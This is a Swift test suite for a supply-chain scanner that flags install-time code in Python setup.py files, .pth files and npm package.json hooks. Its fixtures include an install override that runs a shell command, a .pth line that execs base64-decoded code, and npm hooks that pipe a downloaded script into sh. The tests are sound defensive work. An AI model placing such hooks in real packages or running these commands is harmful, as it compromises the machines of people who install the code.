import Testing
@testable import CordonHeuristics

@Suite struct InstallTimeCodeTests {
    @Test func cmdclassInstallOverrideIsHigh() {
        let src = """
        from setuptools import setup
        from setuptools.command.install import install


        class PostInstall(install):
            def run(self):
                install.run(self)
                import os
                os.system("id > /tmp/owned")

        setup(
            name="evilpkg",
            version="0.1",
            cmdclass={"install": PostInstall},
        )
        """
        let fs = scanFile("setup.py", src)
        #expect(rules(fs) == ["install-time-code"])
        #expect(fs.count == 1)
        #expect(fs.first?.severity == .high)
        #expect(fs.first?.startLine == 14)
        #expect(fs.first?.evidence == "cmdclass={\"install\": PostInstall},")
    }

    @Test func topLevelSubprocessIsHigh() {
        let src = """
        import subprocess
        from setuptools import setup

        subprocess.Popen(["python3", "-c", "import telemetry_agent"])
        setup(name="widget", version="1.0")
        """
        let fs = scanFile("setup.py", src)
        #expect(rules(fs) == ["install-time-code"])
        #expect(fs.map(\.startLine) == [4])
        #expect(fs.first?.severity == .high)
    }

    @Test func ordinarySetupPyIsClean() {
        let src = """
        import subprocess
        from setuptools import setup, find_packages


        def git_version():
            return subprocess.check_output(["git", "describe"]).decode().strip()


        setup(
            name="widget",
            version="1.0",
            packages=find_packages(),
            install_requires=["requests>=2"],
        )
        """
        #expect(scanFile("setup.py", src).isEmpty)
    }

    @Test func buildExtCmdclassIsNotFlagged() {
        let src = """
        from setuptools import setup, Extension
        from setuptools.command.build_ext import build_ext

        class BuildExt(build_ext):
            pass

        setup(name="fastwidget", ext_modules=[Extension("fw", ["fw.c"])], cmdclass={"build_ext": BuildExt})
        """
        #expect(!rules(scanFile("setup.py", src)).contains("install-time-code"))
    }

    @Test func topLevelCallsOutsideSetupPyAreNotInstallTime() {
        let fs = scanFile("pkg/cli.py", "import subprocess\nsubprocess.run(['ls'])\n")
        #expect(!rules(fs).contains("install-time-code"))
    }
}

@Suite struct PthTests {
    /// An import line runs at every start-up: medium on its own (setuptools ships one), high when
    /// it executes, decodes or reaches the network.
    @Test func importLineInPthIsMediumAndPayloadIsHigh() {
        let plain = "/usr/lib/python3/dist-packages\nimport os, sys; sys.modules.setdefault('boot', __import__('telemetry_boot'))\n"
        let fs = scanFile("zzz_boot.pth", plain)
        #expect(rules(fs) == ["pth-code"])
        #expect(fs.first?.severity == .medium)
        #expect(fs.first?.startLine == 2 && fs.first?.endLine == 2)
        let payload = "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
        #expect(scanFile("zzz_boot.pth", payload).first { $0.rule == "pth-code" }?.severity == .high)
    }

    @Test func setuptoolsDistutilsShimIsNotHigh() {
        let line = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
        #expect(scanFile("distutils-precedence.pth", line).allSatisfy { $0.severity < .high })
    }

    @Test func pathOnlyPthIsClean() {
        let src = "/opt/project/src\n./vendor\n# import comment lines are ignored by site.py\n  import notreally\n"
        #expect(scanFile("project.pth", src).isEmpty)
    }

    @Test func importInPythonFileIsNotPthCode() {
        #expect(!rules(scanFile("pkg/__init__.py", "import os\n")).contains("pth-code"))
    }
}

@Suite struct NpmInstallScriptTests {
    @Test func postinstallIsHighWithKeyLine() {
        let json = """
        {
          "name": "harmless-widget-lib",
          "version": "1.0.0",
          "scripts" :{
            "test":"jest",
              "postinstall"  :   "node ./scripts/collect.js"
          }
        }
        """
        let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm))
        #expect(rules(fs) == ["npm-install-script"])
        #expect(fs.first?.severity == .high)
        #expect(fs.first?.startLine == 6)
        #expect(fs.first?.evidence == "\"postinstall\": \"node ./scripts/collect.js\"")
    }

    @Test func preinstallOnOneLineIsHigh() {
        let json = #"{"name":"harmless-widget-lib","scripts":{"preinstall":"curl -s https://example.com/i | sh"}}"#
        let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm))
        #expect(fs.filter { $0.rule == "npm-install-script" }.map(\.severity) == [.high])
    }

    @Test func nodeGypRebuildIsLow() {
        let json = "{\n  \"name\": \"harmless-widget-lib\",\n  \"scripts\": { \"install\": \"node-gyp rebuild\" }\n}\n"
        let fs = Heuristics.scan(pkg([pf("package.json", json), pf("binding.gyp", "{ 'targets': [] }")], eco: .npm))
        #expect(fs.count == 1)
        #expect(fs.first?.rule == "npm-install-script")
        #expect(fs.first?.severity == .low)
        #expect(fs.first?.startLine == 3)
    }

    @Test func bindingGypAloneIsLow() {
        let json = "{ \"name\": \"harmless-widget-lib\", \"scripts\": { \"test\": \"mocha\" } }"
        let fs = Heuristics.scan(pkg([pf("package.json", json), pf("binding.gyp", "{ 'targets': [] }")], eco: .npm))
        #expect(fs.map(\.rule) == ["npm-install-script"])
        #expect(fs.first?.severity == .low)
        #expect(fs.first?.file == "binding.gyp")
    }

    /// package.json is read as npm reads it: a leading byte order mark skipped (lines still
    /// count from the file's start), an escaped surrogate pair one character, a lone
    /// surrogate U+FFFD rather than a reason to skip the file.
    @Test func readAsNpmReadsIt() {
        let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
        let text = "{\n  \"name\": \"w\",\n  \"scripts\": {\"postinstall\": \"echo \\ud83d\\ude00 \\ud800\"}\n}\n"
        let fs = Heuristics.scan(pkg([PackageFile(path: "package.json", bytes: bom + Array(text.utf8))], eco: .npm))
        #expect(fs.map(\.rule) == ["npm-install-script"])
        #expect(fs.first?.startLine == 3)
        #expect(fs.first?.message.hasSuffix("echo \u{1F600} \u{FFFD}") == true, "\(fs.first?.message ?? "")")
        // Invalid UTF-8 is replaced too; the grammar is still RFC 8259's (npm refuses the rest).
        let latin1 = Array("{\"scripts\": {\"install\": \"caf".utf8) + [0xE9] + Array("\"}}".utf8)
        #expect(Heuristics.scan(pkg([PackageFile(path: "package.json", bytes: latin1)], eco: .npm)).first?.message.hasSuffix("caf\u{FFFD}") == true)
        #expect(Heuristics.scan(pkg([pf("package.json", #"{"scripts": {"install": "x",}}"#)], eco: .npm)).isEmpty)
    }

    /// The last of a repeated key is the one npm runs.
    @Test func repeatedHookKeyReadsTheLast() {
        let json = "{\"scripts\": {\"postinstall\": \"node-gyp rebuild\",\n\"postinstall\": \"curl x | sh\"}}"
        let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm)).filter { $0.rule == "npm-install-script" }
        #expect(fs.map(\.severity) == [.high])
        #expect(fs.first?.startLine == 2)
    }

    /// npm's JSON.parse reads a number beyond a Double's range as Infinity: such a number next to a
    /// hook must not make the file unreadable here, or the hook goes unseen (it was seen before
    /// CordonJSON, whose strict mode refuses the number).
    @Test func hugeNumberDoesNotHideAHook() {
        for number in ["1e400", "-1e400", "1E+999", String(repeating: "9", count: 400)] {
            let json = "{\"name\": \"w\", \"version\": \"1.0.0\", \"n\": \(number), \"scripts\": {\"postinstall\": \"curl x | sh\"}}"
            let fs = Heuristics.scan(pkg([pf("package.json", json)], eco: .npm)).filter { $0.rule == "npm-install-script" }
            #expect(fs.map(\.severity) == [.high], "\(number)")
        }
    }

    /// A file past the parser's caps (a million values, 256 levels) is still JSON to npm, which
    /// runs its hooks: it is reported as unread, never passed as clean. A file npm refuses is not.
    @Test func aPackageJSONPastTheCapsIsNotClean() {
        let many = "[" + Array(repeating: "0", count: 1_000_001).joined(separator: ",") + "]"
        let deep = String(repeating: "[", count: 300) + String(repeating: "]", count: 300)
        for filler in [many, deep] {
            let json = "{\"name\": \"w\", \"scripts\": {\"install\": \"curl x | sh\"}, \"files\": \(filler)}"
            let fs = Heuristics.scan(pkg([pf("node_modules/dep/package.json", json)], eco: .npm)).filter { $0.rule == "npm-install-script" }
            #expect(fs.map(\.severity) == [.high])
            #expect(fs.first?.message.contains("cannot be ruled out") == true, "\(fs.first?.message ?? "")")
        }
        #expect(Heuristics.scan(pkg([pf("package.json", #"{"scripts": {"install": "x"}, "n": 01}"#)], eco: .npm)).isEmpty)
    }

    @Test func ordinaryScriptsAreClean() {
        let json = """
        {"name": "harmless-widget-lib", "scripts": {"build": "tsc", "test": "jest", "prepublishOnly": "npm run build",
         "description": "postinstall is mentioned here but is not a key"}}
        """
        #expect(Heuristics.scan(pkg([pf("package.json", json)], eco: .npm)).isEmpty)
    }
}
